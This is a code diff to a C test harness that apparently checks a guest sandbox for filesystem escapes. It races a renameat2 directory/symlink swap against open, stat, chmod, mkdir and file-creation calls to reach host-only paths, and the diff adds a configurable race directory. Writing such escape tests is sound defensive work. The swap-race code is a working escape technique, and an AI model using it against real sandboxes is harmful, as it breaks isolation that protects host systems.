@@ -12,7 +12,8 @@
  * kernel reads it.
  *
  * argv: 1 host path of the marker, 2 its content, 3 milliseconds per
- * phase, 4 host path of the guest root. For each phase and call it prints
+ * phase, 4 host path of the guest root, 5 (optional) the guest directory
+ * to race in (default /tmp/race; /dev/shm/... races inside a bind). For each phase and call it prints
  *   race-CALL-TARGET: attempts N escapes M
  * An escape is the marker's content read (open), a successful stat, access
  * or chmod of a name that exists only on the host, or a file or directory
@@ -33,12 +34,15 @@
 static const char *content;
 static char hostrel[4096], hostdirrel[4096];
 static volatile int stop;
+/* The directory raced in, and the two names swapped there. */
+static const char *base = "/tmp/race";
+static char dira[4096], dirb[4096];
 static long ms;
 
 static void *swapper(void *arg) {
 	(void)arg;
 	while (!stop)
-		syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/a", AT_FDCWD, "/tmp/race/b", 2 /* RENAME_EXCHANGE */);
+		syscall(SYS_renameat2, AT_FDCWD, dira, AT_FDCWD, dirb, 2 /* RENAME_EXCHANGE */);
 	return 0;
 }
 
@@ -50,7 +54,7 @@ static void *attacker(void *arg) {
 	for (long i = 0; !stop; i++) {
 		a->attempts++;
 		if (!strcmp(a->call, "open")) {
-			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
 			int fd = open(p, O_RDONLY);
 			if (fd >= 0) {
 				ssize_t n = read(fd, buf, sizeof buf - 1);
@@ -60,20 +64,20 @@ static void *attacker(void *arg) {
 			}
 		} else if (!strcmp(a->call, "stat")) {
 			struct stat st;
-			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
 			if (stat(p, &st) == 0) a->escapes++;
 		} else if (!strcmp(a->call, "access")) {
-			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
 			if (access(p, F_OK) == 0) a->escapes++;
 		} else if (!strcmp(a->call, "chmod")) {
 			/* The marker's own mode: an escape changes nothing. */
-			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
 			if (chmod(p, 0644) == 0) a->escapes++;
 		} else if (!strcmp(a->call, "mkdir")) {
-			snprintf(p, sizeof p, "/tmp/race/a/%s/RACE-%d-%ld", hostdirrel, a->id, i);
+			snprintf(p, sizeof p, "%s/%s/RACE-%d-%ld", dira, hostdirrel, a->id, i);
 			if (mkdir(p, 0755) == 0) a->escapes++;
 		} else {
-			snprintf(p, sizeof p, "/tmp/race/a/%s/RACE-%d-%ld", hostdirrel, a->id, i);
+			snprintf(p, sizeof p, "%s/%s/RACE-%d-%ld", dira, hostdirrel, a->id, i);
 			int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
 			if (fd >= 0) { close(fd); a->escapes++; }
 		}
@@ -82,13 +86,13 @@ static void *attacker(void *arg) {
 }
 
 static void phase(const char *target, const char *call) {
-	unlink("/tmp/race/a");
-	unlink("/tmp/race/b");
-	rmdir("/tmp/race/a");
-	rmdir("/tmp/race/b");
-	mkdir("/tmp/race", 0755);
-	mkdir("/tmp/race/a", 0755);
-	symlink(target, "/tmp/race/b");
+	unlink(dira);
+	unlink(dirb);
+	rmdir(dira);
+	rmdir(dirb);
+	mkdir(base, 0755);
+	mkdir(dira, 0755);
+	symlink(target, dirb);
 	stop = 0;
 	pthread_t sw, at[2];
 	static int id;
@@ -157,12 +161,16 @@ int main(int argc, char **argv) {
 	*strrchr(hostdirrel, '/') = 0;
 	content = argv[2];
 	ms = atol(argv[3]);
+	if (argc > 5) base = argv[5];
+	snprintf(dira, sizeof dira, "%s/a", base);
+	snprintf(dirb, sizeof dirb, "%s/b", base);
 	setvbuf(stdout, 0, _IONBF, 0);
 	const char *targets[] = { "/", "../../../../../../../../../.." };
 	const char *calls[] = { "open", "stat", "creat", "access", "chmod", "mkdir" };
 	for (int t = 0; t < 2; t++)
 		for (int c = 0; c < 6; c++)
 			phase(targets[t], calls[c]);
+	if (argc > 5) return 0; /* the memory race is the same anywhere */
 	snprintf(translated, sizeof translated, "%s/etc/hostname", argv[4]);
 	snprintf(hostpath, sizeof hostpath, "%s", argv[1]);
 	memory_phase();
